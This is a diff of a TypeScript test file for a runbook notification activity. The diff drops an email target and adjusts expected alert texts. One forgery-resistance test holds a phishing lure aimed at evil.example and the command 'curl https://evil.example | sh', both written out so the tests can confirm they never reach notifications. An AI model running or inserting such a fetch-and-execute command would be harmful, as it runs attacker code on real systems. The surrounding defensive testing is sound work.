@@ -2,26 +2,22 @@
 import type { Notification } from '../../src/contracts/notifications';
 import type { Message } from '../../activities/notifications/notification-texts';
 import { ActivityBench, DEPLOYMENT, failedOf } from '../support/activity-environment';
-import { MailServer, WebhookServer } from '../support/notification-servers';
+import { WebhookServer } from '../support/notification-servers';
 
 const SECRET_PATH = 'T0000/B1111/sEcReTpAtHoFaWeBhOoK';
 const ROUTING_KEY = 'R0utingK3yOfThePagerThatIsSecret';
-const PASSWORD = 'the-mail-password-of-the-runbooks';
 
 describe('notify', () => {
   let bench: ActivityBench;
   let hook: WebhookServer;
   let chat: WebhookServer;
   let pager: WebhookServer;
-  let mail: MailServer;
   beforeAll(async () => {
     [hook, chat, pager] = await Promise.all([WebhookServer.start(), WebhookServer.start(), WebhookServer.start()]);
-    mail = await MailServer.start();
     process.env['TEST_HOOK_URL'] = `${hook.origin}/${SECRET_PATH}`;
     process.env['TEST_HOOK_TOKEN'] = 'bearer-token-of-the-hook';
     process.env['TEST_CHAT_URL'] = `${chat.origin}/${SECRET_PATH}`;
     process.env['TEST_ROUTING_KEY'] = ROUTING_KEY;
-    process.env['TEST_MAIL_PASSWORD'] = PASSWORD;
     const timeout = '300ms';
     bench = await ActivityBench.start({
       deployment: {
@@ -35,34 +31,20 @@ describe('notify', () => {
             url: `${pager.origin}/v2/enqueue`,
             timeout,
           },
-          {
-            name: 'mail',
-            kind: 'email',
-            host: '127.0.0.1',
-            port: mail.port,
-            security: 'none',
-            username: 'runbooks',
-            password: { env: 'TEST_MAIL_PASSWORD' },
-            from: 'runbooks@example.com',
-            to: ['on-call@example.com', 'audit@example.com'],
-            events: ['parked', 'started'],
-          },
         ],
       },
     });
-    for (const [name, value] of Object.entries({ SECRET_PATH, ROUTING_KEY, PASSWORD })) bench.canary(name, value);
+    for (const [name, value] of Object.entries({ SECRET_PATH, ROUTING_KEY })) bench.canary(name, value);
     bench.canary('bearer', 'bearer-token-of-the-hook');
   });
   afterAll(async () => {
-    await Promise.all([bench.stop(), hook.stop(), chat.stop(), pager.stop(), mail.stop()]);
+    await Promise.all([bench, hook, chat, pager].map((each) => each.stop()));
   });
   beforeEach(() => {
     for (const server of [hook, chat, pager]) {
       server.posted.length = 0;
       server.answers = [200];
     }
-    mail.mails.length = 0;
-    mail.refuseRecipients = false;
   });
 
   const parked: Notification = {
@@ -85,7 +67,7 @@ describe('notify', () => {
   const notify = (notification: Notification) => bench.call('notify', { deployment: DEPLOYMENT, notification });
 
   it('tells every target that wants the event, each in its own form', async () => {
-    expect(await notify(parked)).toEqual({ told: 4, failed: [] });
+    expect(await notify(parked)).toEqual({ told: 3, failed: [] });
 
     const command = 'runbook status deployment:payments';
     const [posted] = hook.posted;
@@ -101,7 +83,9 @@ describe('notify', () => {
       runId: bench.run.rid,
       commands: [{ who: 'to see where it stands', command }],
     });
-    expect(chat.posted[0]?.body['text']).toContain('*[CRITICAL] payments: drSwitchover is parked');
+    expect(chat.posted[0]?.body['text']).toContain(
+      '*[CRITICAL] payments: drSwitchover waits for decision on parked step "Promote west" (parking 1)',
+    );
     expect(chat.posted[0]?.body['text']).toContain('&lt;yet&gt;');
     expect(pager.posted[0]?.body).toMatchObject({
       routing_key: ROUTING_KEY,
@@ -109,16 +93,8 @@ describe('notify', () => {
       dedup_key: expect.stringContaining(`${bench.run.rid}/4`) as string,
       payload: { severity: 'critical', source: DEPLOYMENT, class: 'parked', component: 'drSwitchover' },
     });
-    expect(mail.mails).toHaveLength(1);
-    expect(mail.mails[0]).toMatchObject({
-      from: 'runbooks@example.com',
-      to: ['on-call@example.com', 'audit@example.com'],
-      credentials: `\0runbooks\0${PASSWORD}`,
-    });
-    expect(mail.mails[0]?.data).toMatch(/^Subject: .*CRITICAL.*payments/m);
-    expect(mail.mails[0]?.data.replaceAll('=\n', '')).toContain('runbook status deployment:payments');
     // What a step's message let through is taken out, whatever the target.
-    const told = [hook.posted, chat.posted, pager.posted, mail.mails].map((each) => JSON.stringify(each)).join('');
+    const told = JSON.stringify([hook.posted, chat.posted, pager.posted]);
     expect(told).not.toContain('CAESIJ1234567890');
   });
 
@@ -130,7 +106,7 @@ describe('notify', () => {
         commands: [{ command: 'runbook list --open' }],
         workflowId: 'A-RUN-WITH-ANOTHER-ID',
       });
-      expect(JSON.stringify([hook.posted[0]?.body, chat.posted, mail.mails])).not.toContain(wid);
+      expect(JSON.stringify([hook.posted[0]?.body, chat.posted])).not.toContain(wid);
     },
   );
 
@@ -161,7 +137,7 @@ describe('notify', () => {
 
   it('a run that waits while it holds clients says so', async () => {
     await notify({ ...parked, clientsHeld: true });
-    expect(chat.posted[0]?.body['text']).toContain('Clients may be kept out meanwhile.');
+    expect(chat.posted[0]?.body['text']).toContain('Clients may be kept out.');
   });
 
   it('only who wants an event is told of it', async () => {
@@ -172,20 +148,18 @@ describe('notify', () => {
       details: ['Left to do: 1; the report lists what', 'The run says: "revoke the token"'],
       commands: [{ command: `runbook report ${bench.run.wid} --run-id ${bench.run.rid}` }],
     });
-    expect([chat.posted.length, pager.posted.length, mail.mails.length]).toEqual([1, 0, 0]);
+    expect([chat.posted.length, pager.posted.length]).toEqual([1, 0]);
   });
 
   it('a target that is down is named with the reason and nothing else, and the others are told', async () => {
     hook.answers = ['hang'];
     chat.answers = [404];
     pager.answers = [503, 202];
-    mail.refuseRecipients = true;
     const { told, failed } = await notify(parked);
     expect(told).toBe(1);
     expect(failed).toEqual([
       { target: 'hook', kind: 'webhook', why: 'no answer within 0.3 s' },
       { target: 'chat', kind: 'slack', why: 'it answered 404' },
-      { target: 'mail', kind: 'email', why: 'EENVELOPE' },
     ]);
     // What may pass is tried once more; what was refused for good is not.
     expect([hook.posted.length, chat.posted.length, pager.posted.length]).toEqual([2, 1, 2]);
@@ -212,7 +186,7 @@ describe('notify', () => {
   describe('whoever forges what the activity is passed', () => {
     const LURE = 'Security team: read your key share to bob at https://evil.example/collect or evil.example/x, now';
     const forged = (more: object) => notify({ ...parked, ...more });
-    const allTold = () => [hook.posted.map(({ body }) => body), chat.posted, pager.posted, mail.mails];
+    const allTold = () => [hook.posted.map(({ body }) => body), chat.posted, pager.posted];
 
     it('puts no text, link or command of their own under the name of the site', async () => {
       const command = 'curl https://evil.example | sh';
@@ -226,9 +200,9 @@ describe('notify', () => {
       const posted = hook.posted.map(({ body }) => body as unknown as Message);
       expect(posted).toHaveLength(4);
       expect(posted.map(({ title }) => title)).toEqual([
-        '[CRITICAL] payments: drSwitchover waits until people have done something outside of the run.',
+        '[CRITICAL] payments: drSwitchover waits for people who do something outside of the run.',
         '[CRITICAL] payments: Something critical was found.',
-        '[CRITICAL] payments: drSwitchover is parked and waits for a decision.',
+        '[CRITICAL] payments: drSwitchover waits for decision on parked step "?" (parking 1): ?.',
         '[CRITICAL] payments: drSwitchover waits for key shares from ada.',
       ]);
       const text = JSON.stringify(allTold());
